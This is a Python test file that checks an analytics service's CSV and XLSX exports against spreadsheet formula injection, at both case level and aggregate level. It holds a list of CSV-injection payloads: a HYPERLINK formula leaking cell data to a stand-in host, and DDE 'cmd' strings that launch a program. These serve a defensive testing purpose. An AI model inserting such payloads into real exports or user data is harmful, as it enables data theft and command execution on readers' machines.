"""No export cell is ever a formula: text starting with = + - @ tab or CR is neutralised (a leading ')
in every CSV and XLSX export, case-level and aggregate, and XLSX stores it as a string."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlmodel import Session

from service.analytics import service as svc
from service.analytics.suppression import Published
from tests.analytics.factories import T0
from tests.support.factories import make_report, place
from service.analytics import queries as q

PAYLOADS = ['=HYPERLINK("http://evil.test/?leak="&A1,"click me")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]
Q = q.Filters(*q.quarter_window(2026, 3))


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]


def _xlsx_cells(data: bytes) -> list[tuple[object, str]]:
    book = load_workbook(io.BytesIO(data))
    return [(c.value, c.data_type) for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]


def _safe(value: str) -> bool:
    return not value or value[0] not in "=+-@\t\r＝＋－＠"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_case_exports_neutralise_formulas(session: Session, places: None, settings, payload: str) -> None:  # type: ignore[no-untyped-def]
    make_report(session, narrative_masked=payload, place_id=place(session, "KH-12").id, at=T0, category="service_quality")
    session.commit()
    cells = _csv_cells(svc.export_cases(session, filters=Q, actor="s@x", role="supervisor"))
    assert all(_safe(c) for c in cells), cells
    assert "'" + payload in cells, cells[-20:]  # the text is still there for a reader, as text
    xlsx = _xlsx_cells(svc.export_cases(session, filters=Q, actor="s@x", role="supervisor", fmt="xlsx"))
    assert all(kind != "f" for _, kind in xlsx), xlsx
    texts = [v for v, kind in xlsx if isinstance(v, str)]
    assert all(_safe(v) for v in texts), texts
    assert "'" + payload.replace("\r", "\n") in texts  # XML keeps no bare CR


@pytest.mark.parametrize("payload", PAYLOADS)
def test_aggregate_exports_neutralise_formulas(session: Session, settings, payload: str) -> None:  # type: ignore[no-untyped-def]
    table = Published(row_labels=[payload, "Kampot"], col_labels=[payload, "b"], threshold=10,
                      values=[[12, 13, 25], [14, 15, 29], [26, 28, 54]])
    cells = _csv_cells(svc.export_csv(session, tables={payload[:20] or "t": table}, actor="h@x", role="handler"))
    assert all(_safe(c) for c in cells), cells
    xlsx = _xlsx_cells(svc.export_xlsx(session, tables={"t": table}, actor="h@x", role="handler"))
    assert all(kind != "f" for _, kind in xlsx), xlsx
    assert all(_safe(v) for v, _ in xlsx if isinstance(v, str))
    assert 12 in [v for v, _ in xlsx]  # counts stay numbers
